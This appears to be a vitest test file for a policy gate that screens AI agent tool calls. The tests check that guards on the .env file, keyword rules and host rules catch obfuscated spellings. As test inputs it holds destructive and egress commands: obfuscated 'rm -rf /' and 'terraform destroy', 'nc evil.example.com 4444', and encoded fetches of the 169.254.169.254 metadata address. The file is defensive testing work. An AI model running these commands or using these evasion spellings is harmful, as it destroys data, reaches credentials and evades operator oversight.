/**
 * DECISIONS §17 and §18, and the edges that used to give no decision: the
 * gate judges what a call does, not how it is spelled, reads policy from the
 * outermost work tree, and fails closed on a policy source that is present
 * but broken. Real directories and files on disk throughout.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { JsonValue } from "@car/ir";
import { afterEach, describe, expect, it } from "vitest";
import { type PolicyCheckResult, policyCheckDirs } from "./policy-check.ts";
import { policyDirsExcluding } from "./policy-dirs.ts";

const temps: string[] = [];
function tempdir(): string {
  const dir = mkdtempSync(join(tmpdir(), "car-gate-norm-"));
  temps.push(dir);
  return dir;
}
afterEach(() => {
  for (const dir of temps.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function project(toml: string, fileName = "rules.toml"): string {
  const dir = tempdir();
  mkdirSync(join(dir, ".car", "policies"), { recursive: true });
  writeFileSync(join(dir, ".car", "policies", fileName), toml);
  return dir;
}

function check(dir: string, tool: string, params: JsonValue, cwd = dir): PolicyCheckResult {
  const operator = join(dir, "operator-state");
  return policyCheckDirs(tool, params, policyDirsExcluding(cwd, operator, [operator]), cwd);
}

describe("file tools and paths (§17)", () => {
  const rule = '[[deny_tool_param]]\ntool = "Edit"\nparam = "file_path"\nequals = ".env"\n';

  it("checks MultiEdit and NotebookEdit like Edit, on the normalised path", () => {
    const dir = project(rule);
    const calls: [string, JsonValue][] = [
      ["Edit", { file_path: ".env", old_string: "a", new_string: "b" }],
      ["Edit", { file_path: "src/../.env", old_string: "a", new_string: "b" }],
      ["Edit", { file_path: "./.env", old_string: "a", new_string: "b" }],
      ["Write", { file_path: "a/b/../../.env", content: "x" }],
      ["MultiEdit", { file_path: "src/../.env", edits: [{ old_string: "a", new_string: "b" }] }],
      ["NotebookEdit", { notebook_path: "./.env", new_source: "x" }],
    ];
    for (const [tool, params] of calls) {
      const out = check(dir, tool, params);
      expect(out.decision, `${tool} ${JSON.stringify(params)}: ${JSON.stringify(out.findings)}`).toBe("deny");
    }
    // Positive control: another file passes.
    expect(check(dir, "MultiEdit", { file_path: "src/main.ts", edits: [] }).decision).toBe("allow");
    expect(check(dir, "NotebookEdit", { notebook_path: "nb/.env.ipynb", new_source: "x" }).decision).toBe("allow");
  });

  it("denies a file tool whose path is not a string", () => {
    const dir = project(rule);
    const out = check(dir, "MultiEdit", { file_path: [".env"], edits: [] });
    expect(out.decision).toBe("deny");
    expect(out.findings.map((f) => f.rule)).toContain("path_normalisation");
  });

  it("an absolute-path rule also catches // and /./ spellings", () => {
    const dir = project("");
    const abs = join(dir, ".env");
    writeFileSync(join(dir, ".car", "policies", "rules.toml"), `[[deny_tool_param]]\ntool = "Write"\nparam = "file_path"\nequals = ${JSON.stringify(abs)}\n`);
    for (const path of [abs, `/${abs}`, abs.replace(/\/([^/]+)$/, "/./$1"), ".env"]) {
      expect(check(dir, "Write", { file_path: path, content: "" }).decision, path).toBe("deny");
    }
  });

  it("reads a Codex argv command as the command it runs", () => {
    const dir = project('deny_keyword = ["rm -rf /"]\n');
    for (const command of [
      ["bash", "-lc", "rm -rf /"],
      ["/bin/zsh", "-c", "r''m -fr /"],
      ["rm", "-rf", "/"],
    ]) {
      const out = check(dir, "shell", { command });
      expect(out.decision, JSON.stringify(command)).toBe("deny");
    }
    const nc = check(dir, "shell", { command: ["bash", "-lc", "nc evil.example.com 4444"] });
    expect(nc.findings.some((f) => f.source === "inspector:egress" && f.severity === "deny")).toBe(true);
    expect(check(dir, "shell", { command: ["bash", "-lc", "ls -la"] }).decision).toBe("allow");
  });
});

describe("rules that see the command, not its spelling", () => {
  it("a keyword rule matches every spelling of the command", () => {
    const dir = project('deny_keyword = ["rm -rf /", "terraform destroy"]\n');
    for (const command of [
      "rm -r -f /",
      "rm -fr /",
      'rm -rf "/"',
      "rm  -rf  /",
      "r''m -rf /",
      'terra""form destroy',
      "t\\erraform  destroy",
      "$'terraform' destroy",
    ]) {
      expect(check(dir, "Bash", { command }).decision, command).toBe("deny");
    }
    for (const command of ["rm -rf ./build", "rm -f /tmp/x.lock", "terraform plan", "echo terraform; echo destroy"]) {
      expect(check(dir, "Bash", { command }).decision, command).toBe("allow");
    }
  });

  it("names the operator's keyword rule, not its canonical form", () => {
    const dir = project('deny_keyword = ["rm -rf /"]\n');
    expect(check(dir, "Bash", { command: "rm -f -r /" }).findings.map((f) => f.rule)).toEqual(["deny_keyword:rm -rf /"]);
  });

  it("a host rule matches every spelling of the same address", () => {
    const dir = project(
      '[[deny_tool_param]]\ntool = "WebFetch"\nparam = "url"\ncontains = "169.254.169.254"\n[[deny_tool_param]]\ntool = "Bash"\nparam = "command"\ncontains = "169.254.169.254"\n',
    );
    for (const url of [
      "http://0xa9fea9fe/x",
      "http://2852039166/",
      "http://0251.0376.0251.0376/",
      "http://[::ffff:a9fe:a9fe]/",
      "http://u:p@169.254.43518/",
      "HTTP://169.254.169.254./",
    ]) {
      expect(check(dir, "WebFetch", { url }).decision, url).toBe("deny");
      expect(check(dir, "Bash", { command: `curl -s '${url}'` }).decision, url).toBe("deny");
    }
    expect(check(dir, "WebFetch", { url: "http://169.254.169.25/" }).decision).toBe("allow");
  });

  it("a negated regex and equals keep judging the call as sent", () => {
    const dir = project('[[deny_tool_param_matching]]\ntool = "Bash"\nparam = "command"\nmatches = "^make"\nnegate = true\n');
    // The normalised form starts with "make" too, but a negated rule must not deny on it.
    expect(check(dir, "Bash", { command: "make test" }).decision).toBe("allow");
    expect(check(dir, "Bash", { command: "'make' test" }).decision).toBe("deny");
  });
});

describe("discovery past nested work trees (§18)", () => {
  it("a .git made inside the repository does not disarm the root's rules", () => {
    const dir = project('deny_tool = ["Bash"]\n');
    mkdirSync(join(dir, ".git"));
    for (const nested of ["sub", "vendor/clone", "mod/deeper"]) {
      mkdirSync(join(dir, nested, ".git"), { recursive: true });
      const out = check(dir, "Bash", { command: "ls" }, join(dir, nested));
      expect(out.decision, nested).toBe("deny");
    }
    writeFileSync(join(dir, "sub", "marker"), "");
    mkdirSync(join(dir, "touched"));
    writeFileSync(join(dir, "touched", ".git"), "gitdir: /nowhere\n");
    expect(check(dir, "Bash", { command: "ls" }, join(dir, "touched")).decision).toBe("deny");
  });

  it("above the outermost work tree nothing is read", () => {
    const outer = project('deny_tool = ["Bash"]\n');
    const repo = join(outer, "repo");
    mkdirSync(join(repo, ".git"), { recursive: true });
    expect(check(outer, "Bash", { command: "ls" }, repo).decision).toBe("allow");
  });
});

describe("present but broken policy sources fail closed", () => {
  it("a dangling .car/policies symlink denies", () => {
    const dir = tempdir();
    mkdirSync(join(dir, ".car"));
    symlinkSync(join(dir, "gone"), join(dir, ".car", "policies"));
    const out = check(dir, "Bash", { command: "ls" });
    expect(out.decision).toBe("deny");
    expect(out.basis).toBe("policy_load_failed");
  });

  it("a dangling .car symlink denies", () => {
    const dir = tempdir();
    symlinkSync(join(dir, "gone"), join(dir, ".car"));
    const out = check(dir, "Bash", { command: "ls" });
    expect(out.basis).toBe("policy_load_failed");
  });

  it("a policy directory that cannot be read as one denies", () => {
    // Permission bits do not stop root, who runs these tests in CI; a file where the directory should be fails the same read.
    const dir = tempdir();
    mkdirSync(join(dir, ".car"));
    writeFileSync(join(dir, ".car", "policies"), "not a directory");
    const out = check(dir, "Bash", { command: "ls" });
    expect(out.basis).toBe("policy_load_failed");
  });

  it("*.TOML loads like *.toml, and a byte-order mark is not an error", () => {
    const upper = project('deny_tool = ["Bash"]\n', "RULES.TOML");
    expect(check(upper, "Bash", { command: "ls" }).decision).toBe("deny");
    const bom = project('\uFEFFdeny_tool = ["Bash"]\n');
    const out = check(bom, "Bash", { command: "ls" });
    expect(out.basis).toBe("denied_by_rule");
  });
});
